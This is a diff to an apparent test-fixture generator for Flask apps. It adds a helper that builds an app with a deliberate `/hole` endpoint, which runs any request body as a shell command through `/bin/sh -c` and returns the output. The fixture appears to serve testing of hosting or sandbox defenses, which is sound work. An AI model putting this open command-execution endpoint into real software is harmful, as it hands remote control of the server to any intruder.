@@ -30,6 +30,21 @@ def healthz():
     return "well"
 """
 
+_HOLE = """
+
+import subprocess
+from flask import request
+
+
+@app.post("/hole")
+def hole():
+    done = subprocess.run(
+        ["/bin/sh", "-c", request.get_data(as_text=True)],
+        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=50,
+    )
+    return done.stdout, {"X-Status": str(done.returncode)}
+"""
+
 _ALLOCATE = f"""
     hoard = []
     while len(hoard) < {MOST_MEMORY >> 24}:
@@ -75,6 +90,11 @@ def eating_memory(name: str) -> str:
 def slow_to_import(name: str, seconds: float) -> str:
     """Return one that works, after a while."""
     return _application(name, at_import=f"time.sleep({seconds})")
+
+
+def with_a_hole(name: str, at_import: str = "") -> str:
+    """Return one that runs any line of a visitor's in a shell, at `/hole`: an intruder has its account."""
+    return _application(name, at_import=at_import) + _HOLE
 
 
 def _application(name: str, at_import: str = "", at_health: str = "pass") -> str:
